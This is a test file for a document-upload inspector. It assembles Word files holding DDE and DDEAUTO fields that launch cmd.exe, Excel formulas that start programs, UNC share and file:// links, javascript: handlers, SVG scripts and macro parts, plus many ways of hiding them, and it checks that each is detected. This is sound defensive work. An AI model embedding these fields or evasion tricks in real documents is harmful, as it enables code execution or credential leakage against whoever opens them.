/** Documents that run or fetch something, and the ways to hide it. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { inspectUpload } from "#server/uploads/inspect.ts";
import { casesOf } from "#server/uploads/testing/cases.ts";
import { contentTypes, documentXml, docx, relationships } from "#server/uploads/testing/docx-files.ts";
import { toSource } from "#server/uploads/testing/source.ts";
import {
  escapeXml,
  field,
  fieldChar,
  instructionText,
  namespaces,
  paragraph,
  type WordFile,
  wordFile,
  workbook,
} from "#server/uploads/testing/word-files.ts";

const inspect = (bytes: Uint8Array) => inspectUpload("letter.docx", toSource(bytes), 10 * 1024 * 1024);

/** Of letters, backslashes and quotes as they stand in the document. */
const harmful = String.raw`
DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"
DDE "cmd" "/c calc"
LINK Excel.Sheet.12 "\\\\a.example\\b.xlsx"
INCLUDEPICTURE "\\\\a.example\\b\\c.png" \d
INCLUDEPICTURE "file://a.example/b.png"
INCLUDEPICTURE //a.example/b
INCLUDETEXT "https://a.example/b.docx"
INCLUDE a
IMPORT a.png
EMBED Package
CONTROL Forms.TextBox.1
OCX a
HYPERLINK "file:///c:/windows/system32/calc.exe"
HYPERLINK "\\\\a.example\\b"
HYPERLINK javascript:alert(1)
HYPERLINK "https://a.example" "\\\\a.example\\b"
HYPERLINK \l "a" "ms-word:ofe|u|https://a.example"
HYPERLINK "file%3A%2F%2Fa.example"
HYPERLINK "https://a" \o "a\" "file://a.example"
HYPERLINK "https://a
MACROBUTTON AutoOpen Press
DATABASE \c a
RD a.docx
AUTOTEXT a
FILLIN a
ASK a b
PRINT 27
HTMLCONTROL a
INCLUDEPICTURE "http://intranet/a.png"
INCLUDEPICTURE \o "\\\\a.example\\b\\c.png"
INCLUDEPICTURE \t "\\\\a.example\\b\\c.png"
INCLUDEPICTURE \l "\\\\a.example\\b\\c.png"
INCLUDEPICTURE \* "\\\\a.example\\b\\c.png"
INCLUDEPICTURE "https://jo:word@a.example/a.png"
ddeauto a b
DdE a b
`
  .trim()
  .split("\n");

/** The instruction in the ways that a document can bring it along. */
const ways: Record<string, (instruction: string) => string> = {
  plainly: (instruction) => paragraph(field(instruction)),
  simply: (instruction) => paragraph(`<w:fldSimple w:instr="${escapeXml(instruction)}"/>`),
  "letter by letter": (instruction) => paragraph(field(...instruction)),
  "in paragraphs that a field goes across": (instruction) =>
    paragraph(fieldChar("begin"), `<w:r>${instructionText(instruction)}</w:r>`) + paragraph(fieldChar("end")),
  "without an end": (instruction) =>
    paragraph(fieldChar("begin"), `<w:r>${instructionText(instruction)}</w:r>`),
  "as text": (instruction) =>
    paragraph(fieldChar("begin"), `<w:r><w:t>${escapeXml(instruction)}</w:t></w:r>`, fieldChar("end")),
  "as characters": (instruction) =>
    paragraph(
      fieldChar("begin"),
      `<w:r><w:instrText><![CDATA[${instruction}]]></w:instrText></w:r>`,
      fieldChar("end"),
    ),
  "within another": (instruction) =>
    paragraph(
      fieldChar("begin"),
      `<w:r>${instructionText("IF 1 = 1 ")}</w:r>`,
      field(instruction),
      fieldChar("end"),
    ),
  "in what another shows": (instruction) =>
    paragraph(
      fieldChar("begin"),
      `<w:r>${instructionText("TOC")}</w:r>`,
      fieldChar("separate"),
      field(instruction),
      fieldChar("end"),
    ),
  "in a link, a control, a box, a table": (instruction) =>
    `<w:sdt><w:sdtContent><w:tbl><w:tr><w:tc>${paragraph(`<w:hyperlink w:anchor="a">${field(instruction)}</w:hyperlink>`)}</w:tc></w:tr></w:tbl></w:sdtContent></w:sdt>`,
  "in an alternative": (instruction) =>
    paragraph(
      `<mc:AlternateContent><mc:Choice Requires="x"/><mc:Fallback>${field(instruction)}</mc:Fallback></mc:AlternateContent>`,
    ),
  "as a change": (instruction) => paragraph(`<w:ins>${field(instruction)}</w:ins>`),
  "as a deletion": (instruction) =>
    paragraph(`<w:del>${field(instruction).replaceAll("instrText", "delInstrText")}</w:del>`),
};

/** Each of these names what it found. */
const acting = /^(active-content|outside-link|embedded-object|macros|field)$/;

describe("a field that runs or fetches something", () => {
  test.each(Object.entries(ways))("%s", async (_, way) => {
    for (const instruction of harmful)
      expect(await inspect(wordFile({ body: way(instruction) })), instruction).toBe("field");
  });

  const KINDS = "header footer footnotes endnotes comments glossaryDocument settings styles";
  test.each(KINDS.split(" "))("in a part of the kind %s", async (kind) => {
    const type = kind === "glossaryDocument" ? "document.glossary" : kind;
    const data = `<w:a ${namespaces}>${paragraph(field("DDEAUTO a b"))}</w:a>`;
    const parts = [{ name: "word/other.xml", type: `wordprocessingml.${type}+xml`, kind, data }];
    expect(await inspect(wordFile({ parts }))).toBe("field");
  });

  const pieces = (...runs: string[]) => paragraph(fieldChar("begin"), ...runs, fieldChar("end"));
  const run = (instruction: string) => `<w:r>${instructionText(instruction)}</w:r>`;
  test.each(
    Object.entries<string>({
      "a name that another field gives": pieces(field('QUOTE "DDEAUTO"'), run(" a b")),
      "half a name that another field gives": pieces(run("PAGE"), field('QUOTE ""'), run("X")),
      "an address that another field gives": pieces(run('HYPERLINK "'), field("REF a"), run('"')),
      "a name that is another without a change": pieces(
        "<w:del><w:r><w:delInstrText>HYPER</w:delInstrText></w:r></w:del>",
        run("LINK a.b https://a.example"),
      ),
      "a name that is another with a change": pieces(
        "<w:ins>",
        run("HYPER"),
        "</w:ins>",
        run("LINK a.b https://a.example"),
      ),
      "moved words": pieces(
        "<w:moveFrom><w:r><w:t>HYPER</w:t></w:r></w:moveFrom>",
        run("LINK https://a.example"),
      ),
      "words that a program may pass over": pieces(
        "<mc:AlternateContent><mc:Choice Requires='x'>",
        run("PAGE "),
        "</mc:Choice></mc:AlternateContent>",
        run("DDE a b"),
      ),
      "an end of the instruction that a program may pass over": pieces(
        `<x:a>${fieldChar("separate")}</x:a>`,
        run("DDE a b"),
      ),
      "an end of the field that a program may pass over": pieces(
        `<mc:AlternateContent><mc:Choice Requires="x">${fieldChar("end")}</mc:Choice></mc:AlternateContent>`,
        run("DDE a b"),
      ),
      "a beginning that a program may pass over": paragraph(
        `<x:a>${fieldChar("begin")}</x:a>`,
        run("PAGE"),
        fieldChar("end"),
      ),
      "an address behind another within words": pieces(
        '<w:r><w:instrText>HYPERLINK "https://a.example" <x:a/> "//a.example"</w:instrText></w:r>',
      ),
      "words within words": pieces("<w:r><w:instrText><x:a>PAGE </x:a>DDE a b</w:instrText></w:r>"),
      "the marks of another format": pieces("<x:fldChar w:fldCharType='separate'/>", run("DDE a b")),
      "a mark with two meanings": pieces(
        '<w:r><w:fldChar w:fldCharType="separate" x:fldCharType="begin"/></w:r>',
        run("DDE a b"),
      ),
      "a mark of no kind": pieces('<w:r><w:fldChar w:fldCharType="Separate"/></w:r>', run("DDE a b")),
      "a sign of a font": pieces('<w:r><w:sym w:char="F044"/></w:r>', run("DE a b")),
      "a letter that looks alike": pieces(run("DD\u200bE a b")),
    }),
  )("by %s", async (_, body) => {
    expect(await inspect(wordFile({ body }))).toBe("field");
  });

  test("however it is spelt and cut", () =>
    fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...harmful),
        fc.infiniteStream(fc.boolean()),
        fc.constantFrom(...Object.values(ways)),
        async (instruction, chance, way) => {
          const [name = "", ...rest] = instruction.split(/(?=\s)/);
          const spelt = Array.from(name, (letter) =>
            chance.next().value ? letter.toUpperCase() : letter.toLowerCase(),
          );
          const cut = way(spelt.join("") + rest.join("")).replace(/<\/w:instrText>/g, (end) =>
            chance.next().value ? `${end}<w:proofErr/>` : end,
          );
          expect(await inspect(wordFile({ body: cut }))).toBe("field");
        },
      ),
      { numRuns: 150 },
    ));

  test("in the strict edition, and in UTF-16", async () => {
    const body = paragraph(field("DDEAUTO a b"));
    const data = `<w:document ${namespaces}><w:body>${body}</w:body></w:document>`;
    const strict = data.replaceAll(
      "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
      "http://purl.oclc.org/ooxml/wordprocessingml/main",
    );
    const big = Buffer.from(`\uFEFF${data}`, "utf16le").swap16();
    for (const one of [strict, Buffer.from(`\uFEFF${data}`, "utf16le"), big, Buffer.from(data, "utf16le")])
      expect(await inspect(docx([{ name: "word/document.xml", data: one }]))).toBe("field");
  });

  test("in an encoding that only some read is refused", async () => {
    for (const declared of ["utf-7", "ebcdic-cp-us", "shift_jis", "windows-1252"]) {
      const data = documentXml.replace("UTF-8", declared);
      expect(await inspect(docx([{ name: "word/document.xml", data }])), declared).toBe("damaged");
    }
  });
});

const png = Buffer.from("\x89PNG\r\n\x1a\n words", "latin1");
const outside = (kind: string, target: string): WordFile => ({ outside: [{ id: "a", kind, target }] });
const part = (name: string, type: string, kind: string, data: string | Buffer = "<a/>"): WordFile => ({
  parts: [{ name, type, kind, data }],
});
const microsoft = "http://schemas.microsoft.com/office";
const standard = "http://schemas.openxmlformats.org/officeDocument/2006";
const extended = (properties: string) =>
  part(
    "docProps/app.xml",
    "extended-properties+xml",
    "extended-properties",
    `<Properties xmlns="${standard}/extended-properties">${properties}</Properties>`,
  );
const custom = (name: string, value: string) =>
  part(
    "docProps/custom.xml",
    "custom-properties+xml",
    "custom-properties",
    `<Properties xmlns="${standard}/custom-properties" xmlns:vt="${standard}/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="${name}">${value}</property></Properties>`,
  );

const drawn = (content: string) =>
  wordFile(
    part(
      "word/media/a.svg",
      "image/svg+xml",
      "image",
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml">${content}</svg>`,
    ),
  );

/** A chart whose workbook has a formula. */
const chartOf = (formula: string) =>
  wordFile({
    parts: [
      {
        ...{ name: "word/charts/a.xml", type: "drawingml.chart+xml", kind: "chart", id: "a" },
        data: `<c:chartSpace ${namespaces}><c:externalData r:id="b"/></c:chartSpace>`,
      },
      {
        ...{
          name: "word/a.xlsx",
          type: "spreadsheetml.sheet",
          kind: "package",
          id: "b",
          from: "word/charts/a.xml",
        },
        data: workbook(`<definedNames><definedName>${formula}</definedName></definedNames>`),
      },
    ],
  });

describe("a document that leads to what no text needs", () => {
  test.each(
    Object.entries<WordFile>({
      "a file": outside("hyperlink", "file:///C:/a.exe"),
      "a file, spelt otherwise": outside("hyperlink", " FiLe:\\\\a.example\\b"),
      "a file, as old browsers name its disk": outside("hyperlink", "C|/a.exe"),
      "a share": outside("hyperlink", "\\\\a.example\\b"),
      "a share, with slashes": outside("hyperlink", "//a.example/b"),
      "a share, decoded": outside("hyperlink", "%5C%5Ca.example%5Cb"),
      "another program": outside("hyperlink", "ms-msdt:/id a"),
      "a script": outside("hyperlink", "java&#10;script:alert(1)"),
      "a picture of the reader's network": outside("image", "http://intranet/a.png"),
      "a picture of a house": outside("image", "http://printer.local/a.png"),
      "a picture for a name": outside("image", "https://jo@a.example/a.png"),
      "a picture for a password": outside("image", "https://:word@a.example/a.png"),
      "a picture of a company": outside("image", "https://files.a.corp./a.png"),
      "a template that begins with a scheme": outside("attachedTemplate", "http:a.example"),
      "a template with a scheme like a disk": outside("attachedTemplate", "HTTP:a:b.dotm"),
      "a base of links on a share": extended("<HyperlinkBase>\\\\a.exa<!-- -->mple\\b\\</HyperlinkBase>"),
      "links that take the place of those in its text": extended(
        "<HyperlinksChanged>true</HyperlinksChanged>",
      ),
      "the same, as a number": extended("<HyperlinksChanged> 1</HyperlinksChanged>"),
      "a base of links among its own properties": custom(
        "_PID_LINKBASE",
        "<vt:lpwstr>\\\\a.example</vt:lpwstr>",
      ),
      "a base of links as bytes": custom("_pid_linkbase ", "<vt:blob>XABcAGEAAAA=</vt:blob>"),
      "links among its own properties": custom("_PID_HLINKS", "<vt:blob/>"),
      "a picture by a number": outside("image", "http://10.0.0.1/a.png"),
      "a picture on a share": outside("image", "\\\\a.example\\b.png"),
      "a picture on a share of the system": outside("image", "/??/UNC/a.example/b.png"),
      "a chunk of HTML elsewhere": outside("aFChunk", "https://a.example/"),
      "a kind of another format": outside("https://a.example/relationships/hyperlink", "https://a.example/"),
      "a kind in other letters": outside("HyperLink", "https://a.example/"),
      "a font elsewhere": outside("font", "https://a.example/a.ttf"),
      "styles elsewhere": outside("styles", "https://a.example/a.xml"),
      "a chunk of HTML": part("word/a.html", "text/html", "aFChunk", "<p>a</p>"),
      "a chunk of HTML that is called a picture": part("word/a.png", "image/png", "image", "<html></html>"),
      "a chunk of HTML that is called data": part("word/a.xml", "application/xml", "aFChunk"),
      "a program": part("word/embeddings/a.exe", "application/octet-stream", "package", "MZ words"),
      "a program that is called a picture": part("word/media/a.png", "image/png", "image", "MZ words"),
      "a script that is called data": part("word/a.xml", "text/javascript", "customXml", "alert(1)"),
      "an object of another program": part(
        "word/a.bin",
        "oleObject",
        "oleObject",
        Buffer.from("d0cf11e0a1b11ae1", "hex"),
      ),
      "a workbook that is not of a chart": {
        ...part("word/a.xlsx", "spreadsheetml.sheet", "package", workbook()),
        body: '<w:object><o:OLEObject r:id="rId1"/></w:object>',
      },
      "a workbook that is called a font": part("word/a.ttf", "application/x-font-ttf", "package", workbook()),
      "a picture that is called a font": part("word/a.ttf", "application/x-font-ttf", "image", "%!PS-Adobe"),
      "a header that is called a font": part(
        "word/a.ttf",
        "application/x-font-ttf",
        "header",
        `<w:hdr>${paragraph(field("DDE a b"))}</w:hdr>`,
      ),
      "macros that are called a picture": part(
        "word/a.png",
        "image/png",
        `${microsoft}/2006/relationships/vbaProject`,
        png,
      ),
      "keys that run macros": part(
        "word/a.xml",
        "application/vnd.ms-word.keyMapCustomizations+xml",
        `${microsoft}/2006/relationships/keyMapCustomizations`,
      ),
      buttons: part("customUI/a.xml", "application/xml", `${microsoft}/2006/relationships/ui/extensibility`),
      "an add-in": part(
        "word/webextensions/a.xml",
        "application/vnd.ms-office.webextension+xml",
        `${microsoft}/2011/relationships/webextension`,
      ),
      "a film": part("word/media/a.mp4", "video/mp4", "video", "words"),
    }),
  )("%s", async (_, file) => {
    expect(await inspect(wordFile(file))).toMatch(acting);
  });

  test.each<[string, string, string, string]>([
    ["a chunk, by a link", "altChunk", "hyperlink", "https://a.example/"],
    ["a template, by a link", "attachedTemplate", "hyperlink", "https://a.example/"],
    ["a template, by a picture", "attachedTemplate", "image", "https://a.example/a.dotm"],
    ["an object, by a picture", "OLEObject", "image", "https://a.example/a"],
    ["a source of data, by a link", "dataSource", "hyperlink", "https://a.example/"],
    ["a frame, by a link", "sourceFileName", "hyperlink", "https://a.example/"],
    ["a picture, by a link", "imagedata", "hyperlink", "https://a.example/"],
    ["a stylesheet, by a link", "saveThroughXslt", "hyperlink", "https://a.example/"],
  ])("%s", async (_, element, kind, target) => {
    const strict = 'xmlns:s="http://purl.oclc.org/ooxml/officeDocument/relationships"';
    for (const reference of ['r:id="a"', `${strict} s:id="a"`]) {
      const file = wordFile({ ...outside(kind, target), body: `<w:${element} ${reference}/>` });
      expect(await inspect(file)).toBe(element === "OLEObject" ? "embedded-object" : "active-content");
    }
  });

  test.each<[string, string]>([
    [
      "a film of a website",
      '<wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;https://a.example&quot;&gt;"/>',
    ],
    ["addresses for a letter", '<w:mailMerge><w:connectString w:val="Provider=a"/></w:mailMerge>'],
    [
      "a form that runs a macro",
      "<w:fldChar w:fldCharType='begin'><w:ffData><w:entryMacro w:val='a'/></w:ffData></w:fldChar>",
    ],
    [
      "a formula behind an element",
      "<m:f xmlns:m='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>A1<m:a/>+cmd|'/c calc'!A1</m:f>",
    ],
    ["an old drawing with a picture on a share", '<v:imagedata src="\\\\a.example\\b.png"/>'],
    ["an old drawing with a link to a file", '<v:shape href="file:///c:/a.exe"/>'],
    ["an old drawing with a link of its own kind", '<v:shape o:althref="//a.example/b.png"/>'],
    ...["imagedata", "fill", "stroke"].map((element): [string, string] => [
      `an old drawing whose ${element} comes from the reader's network`,
      `<v:${element} o:href="http://intranet/a.png"/>`,
    ]),
    ...["manifestLocation", "schemaLocation"].map((attribute): [string, string] => [
      `the ${attribute} of a schema on a share`,
      `<l:schema xmlns:l="http://schemas.openxmlformats.org/schemaLibrary/2006/main" l:${attribute}="\\\\a.example\\b.xml"/>`,
    ]),
    ...["formula", "totalsRowFormula", "oldFormula"].map((element): [string, string] => [
      `a workbook's ${element} that starts a program`,
      `<m:${element} xmlns:m="http://schemas.openxmlformats.org/spreadsheetml/2006/main">cmd|'/c calc'!A1</m:${element}>`,
    ]),
    [
      "a formula of later editions of Excel",
      `<e:f xmlns:e="http://schemas.microsoft.com/office/excel/2006/main">cmd|'/c calc'!A1</e:f>`,
    ],
  ])("%s", async (_, body) => {
    expect(await inspect(wordFile({ body }))).toMatch(acting);
  });

  test.each<[string, string]>([
    ["a script", '<script xlink:href="https://a.example/a"/>'],
    ["a page of HTML", "<foreignObject/>"],
    ["a handler", '<rect ONLOAD="alert(1)"/>'],
    ["a handler that calls nothing", '<rect onload="location=name"/>'],
    ["a picture on a share", '<image xlink:href="\\\\a.example\\b.png"/>'],
    ["a picture of the reader's network", '<image href="http://intranet/a.png"/>'],
    ["a link that runs a script", '<a href="javascript:alert(1)"/>'],
  ])("a drawing with %s", async (_, content) => {
    expect(await inspect(drawn(content))).toMatch(acting);
  });

  test.each(["=cmd|'/c calc'!A1", "cm<!-- -->d|'/c calc'!A1", "'\\\\a\\[b.xlsx]c'!A1"])(
    "a workbook with the formula %s",
    async (formula) => {
      expect(await inspect(chartOf(formula))).toBe("active-content");
    },
  );
});

describe("a document that may pass, since nothing comes of it: it has", () => {
  const asked =
    "whoever edits the figures of a chart has them in Excel, which asks before it requests anything";
  const shown =
    "what opens Word documents shows a drawing as a picture, and fetches no styles, fonts or links";
  const never = "nothing starts a part of a document, and what is no font or no settings is passed over";
  test.each<[what: string, why: string, bytes: Buffer]>([
    ['the formula WEBSERVICE("https://a.example")', asked, chartOf('WEBSERVICE("https://a.example")')],
    ["the formula HYPERLINK(A1)", asked, chartOf("HYPERLINK(A1)")],
    ["the formula CALL(A1)", "Excel runs it on sheets for macros alone", chartOf("CALL(A1)")],
    ["the formula [1]Sheet1!A1", "1 would be a relationship that is refused", chartOf("[1]Sheet1!A1")],
    ...[
      '<style>@imp<![CDATA[ort "https://a.example/a.css"]]></style>',
      "<style>a{fill:u<!-- -->rl(https://a.example/a)}</style>",
      "<style>@font-face{font-family:a;src:url(#a)}</style>",
      '<rect fill="u\\72l(https://a.example/a)"/>',
      `<rect style="mask-image:image-set('https://a.example/a' 1x)"/>`,
      '<use href="#a"><set attributeName="href" to="https://a.example/a"/></use>',
      '<use xml:base="https://a.example/" href="#a"/>',
      '<a href="https://a.example/"/>',
      '<h:img src="https://a.example/a"/>',
      '<?xml-stylesheet href="https://a.example/a.css"?>',
    ].map((content): [string, string, Buffer] => [content, shown, drawn(content)]),
    [
      "a drawing with a picture on the web",
      "so may the text",
      drawn('<image xlink:href="https://a.example/a"/>'),
    ],
    ...[
      part("word/a.ttf", "application/x-font-ttf", "font", "MZ words"),
      part("word/a.odttf", "obfuscatedFont", "font", "\x7fELF"),
      part("word/a.bin", "wordprocessingml.printerSettings", "printerSettings", "\x7fELF"),
    ].map((file): [string, string, Buffer] => ["a program, as a part", never, wordFile(file)]),
    [
      "a header that is data",
      "its fields are read as those of any part",
      wordFile(part("word/a.xml", "application/xml", "header")),
    ],
  ])("%s: %s", async (_, _why, bytes) => {
    expect(await inspect(bytes)).toBeUndefined();
  });
});

describe("a document that would take long to judge, by", () => {
  test.each<[string, (length: number) => WordFile, fits: number, tooLong: number]>([
    ["an instruction", (length) => ({ body: paragraph(field(`REF ${"a".repeat(length)}`)) }), 60_000, 70_000],
    [
      "an address in an instruction",
      (length) => ({ body: paragraph(field(`HYPERLINK "https://a.example/${"a".repeat(length)}"`)) }),
      ...([15_000, 14_000_000] as const),
    ],
    [
      "an address",
      (length) => outside("hyperlink", `https://a.example/${"a".repeat(length)}`),
      15_000,
      20_000,
    ],
  ])("%s", async (_, file, fits, tooLong) => {
    expect(await inspect(wordFile(file(fits)))).toBeUndefined();
    expect(await inspect(wordFile(file(tooLong)))).toMatch(acting);
  });
});

describe("a document that programs could read in different ways", () => {
  const types = (more: string) => docx([{ name: "[Content_Types].xml", data: contentTypes(more) }]);
  const text = (data: string | Buffer) => docx([{ name: "word/document.xml", data }]);
  const rels = (data: string) => docx([{ name: "word/_rels/document.xml.rels", data }]);
  const link = { type: "hyperlink", target: "https://a.example/", isExternal: true };
  test.each(
    casesOf<Buffer>({
      damaged: {
        "has a text that is not well-formed": text(documentXml.replace("</w:p>", "")),
        "has an undeclared prefix": text(documentXml.replace("xmlns:w", "xmlns:y")),
        "has an attribute twice": text(documentXml.replace("<w:p>", '<w:p a="" a="">')),
        "has an unknown entity": text(documentXml.replace("Words", "&words;")),
        "has bytes that are no UTF-8": text(Buffer.from(documentXml.replace("Words", "\xe9"), "latin1")),
        "has words behind its text": text(`${documentXml} words`),
        "has styles that are not well-formed": wordFile(
          part("word/styles.xml", "wordprocessingml.styles+xml", "styles", "<a>"),
        ),
        "is nested without end": wordFile({ body: `${"<w:a>".repeat(300)}${"</w:a>".repeat(300)}` }),
        "has attributes without end": wordFile({
          body: `<w:a ${Array.from({ length: 10_000 }, (_, at) => `a${at}=""`).join(" ")}/>`,
        }),
        "says twice what a part is": types(
          '<Override PartName="/Word/document.xml" ContentType="image/png"/>',
        ),
        "says twice what an extension is": types('<Default Extension="XML" ContentType="image/png"/>'),
        "says it in another format": types(
          '<x:Override xmlns:x="urn:x" PartName="/a" ContentType="image/png"/>',
        ),
        "has relationships of one name": rels(relationships(link, link).replace("rId2", "rId1")),
        "has relationships of another format": rels(
          relationships(link).replace("/package/2006", "/package/2007"),
        ),
        "leads both ways": rels(relationships(link).replace('"External"', '"external"')),
        "has two texts": docx([
          {
            name: "_rels/.rels",
            data: relationships(
              ...["document", "b"].map((name) => ({ type: "officeDocument", target: `word/${name}.xml` })),
            ),
          },
        ]),
        "has a text of another format": text(
          documentXml.replaceAll("wordprocessingml/2006", "wordprocessingml/2007"),
        ),
      },
      "outside-link": {
        "leads out of the document without saying so": rels(
          relationships({ ...link, type: "image", isExternal: false }),
        ),
      },
      "active-content": {
        "has a part of no kind": docx([{ name: "word/a", data: "words" }]),
      },
    }),
  )("because it %s", async (_, bytes, problem) => {
    expect(await inspect(bytes)).toBe(problem);
  });
});
